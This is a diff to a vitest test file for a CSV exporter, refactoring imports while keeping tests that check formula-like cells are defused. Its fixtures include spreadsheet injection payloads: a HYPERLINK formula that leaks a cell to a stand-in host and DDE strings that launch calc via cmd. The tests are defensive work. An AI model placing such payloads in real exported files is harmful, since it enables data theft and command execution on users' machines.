@@ -6,21 +6,14 @@
 import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import { CSV_COLUMNS, TAG_SEPARATOR, defuse, exportCsv } from './csv';
-import {
-  OPTIONS,
-  annotation,
-  annotationEntry,
-  bookmark,
-  bookmarkEntry,
-  realisticEntries,
-} from '../../../tests/support/entries';
+import * as fx from '../../../tests/support/entries';
 
 type Row = Record<string, string>;
 const read = (csv: string): Row[] => parse<Row>(csv, { bom: true, columns: true, skip_empty_lines: false });
 
 describe('CSV export', () => {
-  const entries = realisticEntries();
-  const csv = exportCsv(entries, OPTIONS);
+  const entries = fx.realisticEntries();
+  const csv = exportCsv(entries, fx.OPTIONS);
   const rows = read(csv);
 
   it('has the documented columns, one row per note or bookmark, CRLF records and a UTF-8 BOM', () => {
@@ -61,17 +54,17 @@ describe('CSV export', () => {
 
   it('neutralises cells that start like a formula, and only those', () => {
     const attack = [
-      annotationEntry(
-        annotation('c2.f2.po.1', {
+      fx.annotationEntry(
+        fx.annotation('c2.f2.po.1', {
           note: '=HYPERLINK("http://example.org?leak="&A1,"click")',
           tags: ['+cmd', '@SUM(1)'],
         }),
       ),
-      annotationEntry(annotation('c2.f2.po.2', { note: "-2+3+cmd|' /C calc'!A0" })),
-      annotationEntry(annotation('c2.f2.po.3', { note: '\t=1+1' })),
-      bookmarkEntry(bookmark('c2.f2.pa.1', '@risk: ask capital')),
+      fx.annotationEntry(fx.annotation('c2.f2.po.2', { note: "-2+3+cmd|' /C calc'!A0" })),
+      fx.annotationEntry(fx.annotation('c2.f2.po.3', { note: '\t=1+1' })),
+      fx.bookmarkEntry(fx.bookmark('c2.f2.pa.1', '@risk: ask capital')),
     ];
-    const out = read(exportCsv(attack, OPTIONS));
+    const out = read(exportCsv(attack, fx.OPTIONS));
     expect(out.map((r) => r.note)).toEqual([
       `'=HYPERLINK("http://example.org?leak="&A1,"click")`,
       `'-2+3+cmd|' /C calc'!A0`,
@@ -88,12 +81,14 @@ describe('CSV export', () => {
 
   it('quotes every cell with a line break and defuses every line that starts like a formula (#12.1)', () => {
     const hostile = [
-      annotationEntry(annotation('c2.f3.po.1', { note: 'Ask capital first\n=1+1\n@SUM(2*3)\n-2+3' })),
-      annotationEntry(annotation('c2.f2.po.1', { note: '- check with capital\n- check the SDG target\r\n+ ask' })),
-      annotationEntry(annotation('c2.f2.po.2', { note: 'line\r=HYPERLINK("x")\n\t=1\n\r@A1' })),
-      bookmarkEntry(bookmark('c2.f2.pa.1', 'first\n=cmd|calc')),
+      fx.annotationEntry(fx.annotation('c2.f3.po.1', { note: 'Ask capital first\n=1+1\n@SUM(2*3)\n-2+3' })),
+      fx.annotationEntry(
+        fx.annotation('c2.f2.po.1', { note: '- check with capital\n- check the SDG target\r\n+ ask' }),
+      ),
+      fx.annotationEntry(fx.annotation('c2.f2.po.2', { note: 'line\r=HYPERLINK("x")\n\t=1\n\r@A1' })),
+      fx.bookmarkEntry(fx.bookmark('c2.f2.pa.1', 'first\n=cmd|calc')),
     ];
-    const csv = exportCsv(hostile, OPTIONS);
+    const csv = exportCsv(hostile, fx.OPTIONS);
     const out = read(csv);
     expect(out).toHaveLength(hostile.length); // one row per record: no cell split into rows
     // Read as spreadsheets and Python's csv module do, any line break ending an unquoted record.
@@ -113,7 +108,7 @@ describe('CSV export', () => {
   });
 
   it('leaves the note, tag and bookmark-label cells empty without private notes', () => {
-    const shared = read(exportCsv(entries, { ...OPTIONS, includeNotes: false }));
+    const shared = read(exportCsv(entries, { ...fx.OPTIONS, includeNotes: false }));
     expect(shared).toHaveLength(entries.length);
     for (const row of shared) {
       expect(row.note).toBe('');
@@ -124,7 +119,7 @@ describe('CSV export', () => {
   });
 
   it('writes only the header for nothing', () => {
-    const empty = exportCsv([], OPTIONS);
+    const empty = exportCsv([], fx.OPTIONS);
     expect(read(empty)).toEqual([]);
     expect(empty).toBe(`\uFEFF${CSV_COLUMNS.join(',')}\r\n`);
   });
